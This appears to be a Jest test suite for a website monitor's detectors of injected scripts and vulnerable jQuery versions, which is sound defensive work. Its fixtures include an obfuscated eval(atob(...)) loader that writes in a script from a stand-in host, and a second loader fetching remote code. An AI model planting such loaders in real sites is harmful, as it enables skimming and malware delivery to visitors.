import { describe, expect, test } from '@jest/globals'
import type { PageObservation } from '../crawler/observation.ts'
import { knownFile, newsOfFile } from '../judges/script-file.ts'
import { vulnerableLibraries } from '../judges/vulnerable-library.ts'
import type { ScriptAnswer } from '../probes/fetch-script.ts'
import { rememberFiles, versionsOf } from './file-memory.ts'
import { at, findingOf, lookContext, now, page, probes, seen, short, siteContext, watching } from './fixtures.ts'
import { libVuln } from './lib-vuln.ts'
import type { FileReading, SeenFile } from './running-facts.ts'
import { scriptInjected } from './script-injected.ts'
import { emptySiteMemory } from './site-memory.ts'

const url = at('/site.js')
const honest = 'document.addEventListener("click",function(e){e.target.classList.toggle("open")});\n'
const evil = `${honest};eval(atob('${Buffer.from(`document.write('<script src=https://a.test/x.js></script>')`).toString('base64')}'))`
const jquery = (version: string) => `/*! jQuery v${version} | (c) OpenJS Foundation */\n${honest}`

const reading = (content: string, before: string | null = honest): FileReading => ({
  kind: 'read',
  etag: '"1"',
  lastModified: null,
  libraries: vulnerableLibraries(url, content),
  known: knownFile(content),
  news: newsOfFile(content, before === null ? [] : [knownFile(before)]),
})
const file = (read: FileReading | null, over: Partial<SeenFile> = {}): SeenFile => ({
  ...{ url, name: url, isOwn: true, urls: [at('/a')], pages: 1, isSensitive: false, read },
  ...over,
})
const site = (...files: SeenFile[]) => ({ ...seen(), files })
const remembering = { now, accepted: new Set<string>() }
const memoryOf = (content: string) => ({
  memory: { ...emptySiteMemory, files: rememberFiles(null, [file(reading(content, null))], remembering) },
})
const loading = (over: Partial<PageObservation> = {}) =>
  page({ running: { hosts: [], noted: [], libraries: [], addresses: [url], isSensitive: false }, ...over })
const whole = (content: string): ScriptAnswer => ({ kind: 'read', content, etag: null, lastModified: null })

describe('script.injected in a file', () => {
  test.each<[string, SeenFile, string[]]>([
    ['as it was', file(reading(honest)), []],
    ['with more in it', file(reading(evil)), ['bad high']],
    ['where cards are typed', file(reading(evil), { isSensitive: true }), ['bad critical']],
    ['new, and evil', file(reading(evil, null)), ['bad high']],
    ["somebody else's", file(reading(evil), { isOwn: false }), []],
    ['that could not be read', file(null), []],
  ])('%s', (_name, each, expected) =>
    expect(scriptInjected.judge(site(each), siteContext()).map((verdict) => short(verdict))).toEqual(expected),
  )
  test('a host that nobody knew is enough in what was put in', () => {
    const loader = `${honest};var s=document.createElement('script');s.src='https://new.test/a.js';document.head.appendChild(s)`
    const news = (isKnown: boolean) => ({ ...reading(loader), news: newsOfFile(loader, [knownFile(honest)], () => isKnown) })
    const told = (isKnown: boolean) => scriptInjected.judge(site(file(news(isKnown))), siteContext()).map((each) => short(each))
    expect([told(false), told(true)]).toEqual([['bad high'], []])
  })
  test.each<[string, SeenFile[], string]>([
    ['well again', [file(reading(honest))], 'ok'],
    ['gone from the pages', [], 'ok'],
    ['gone from the server', [file({ kind: 'gone' })], 'ok'],
    ['not readable', [file(null)], 'unknown'],
  ])('who waits hears of one that is %s', (_name, files, expected) => {
    const watched = watching('script.injected', url)
    expect(scriptInjected.judge(site(...files), siteContext({ watched })).map((each) => short(each))).toEqual([expected])
  })
  const finding = () => findingOf(scriptInjected.judge(site(file(reading(evil))), siteContext())[0])
  test.each<[string, PageObservation, ScriptAnswer, string]>([
    ['still there', loading(), whole(evil), 'bad high'],
    ['repaired', loading(), whole(honest), 'ok'],
    ['gone', loading(), { kind: 'gone' }, 'ok'],
    ['not to be read', loading(), { kind: 'unknown' }, 'unknown'],
    ['a page that loads it no more', page({ running: null, status: 404 }), whole(evil), 'ok'],
    ['a wall before the page', loading({ fault: 'challenge' }), whole(evil), 'unknown'],
  ])('looking again: %s', async (_name, each, script, expected) => {
    const world = probes({ pages: [each], scripts: { [url]: script } })
    expect(short(await scriptInjected.lookAgain(finding(), world, lookContext(memoryOf(honest))))).toBe(expected)
  })
})

describe('what is remembered of files', () => {
  const before = rememberFiles(null, [file(reading(honest, null))], remembering)
  const lengths = (files: ReturnType<typeof rememberFiles>) => versionsOf(files, url).map(({ length }) => length)
  test('a release takes the place of what was; what was tampered with does not, unless somebody accepts it', () => {
    const release = `${honest}${honest}`
    expect(lengths(rememberFiles(before, [file(reading(release))], remembering))).toEqual([release.length])
    const tampered = rememberFiles(before, [file(reading(evil))], remembering)
    expect(lengths(tampered)).toEqual([honest.length])
    expect(tampered?.[url]).toMatchObject({ etag: null })
    const accepted = new Set([`script.injected ${url}`])
    expect(lengths(rememberFiles(before, [file(reading(evil))], { now, accepted }))).toEqual([evil.length])
  })
  test('what was not read is as it was known', () => {
    expect(rememberFiles(before, [file(null)], remembering)).toEqual(before)
    expect(rememberFiles(before, null, remembering)).toEqual(before)
    expect(rememberFiles(before, [], remembering)).toEqual(before)
  })
})

describe('lib.vuln in a file', () => {
  test.each<[string, SeenFile, string[]]>([
    ['by its banner', file(reading(jquery('1.12.4'))), ['bad medium']],
    ['of a version that is well', file(reading(jquery('3.7.1'))), []],
    [
      'unchanged since it was read',
      file({ kind: 'unchanged', libraries: vulnerableLibraries(url, jquery('1.12.4')) }),
      ['bad medium'],
    ],
    ['that could not be read', file(null), []],
  ])('%s', (_name, each, expected) =>
    expect(libVuln.judge(site(each), siteContext(memoryOf(jquery('1.12.4')))).map((verdict) => short(verdict))).toEqual(expected),
  )
  test.each<[string, SeenFile[], string]>([
    ['upgraded', [file(reading(jquery('3.7.1')))], 'ok'],
    ['not readable', [file(null)], 'unknown'],
    ['no longer loaded', [], 'ok'],
  ])('who waits hears that it is %s', (_name, files, expected) => {
    const watched = watching('lib.vuln', 'jquery@1.12.4')
    const context = siteContext({ watched, ...memoryOf(jquery('1.12.4')) })
    expect(libVuln.judge(site(...files), context).map((each) => short(each))).toEqual([expected])
  })
  test.each<[string, PageObservation, ScriptAnswer, string]>([
    ['still there', loading(), whole(jquery('1.12.4')), 'bad medium'],
    ['upgraded', loading(), whole(jquery('3.7.1')), 'ok'],
    ['not to be read', loading(), { kind: 'unknown' }, 'unknown'],
  ])('looking again: %s', async (_name, each, script, expected) => {
    const finding = findingOf(libVuln.judge(site(file(reading(jquery('1.12.4')))), siteContext())[0])
    const world = probes({ pages: [each], scripts: { [url]: script } })
    expect(short(await libVuln.lookAgain(finding, world, lookContext()))).toBe(expected)
  })
})
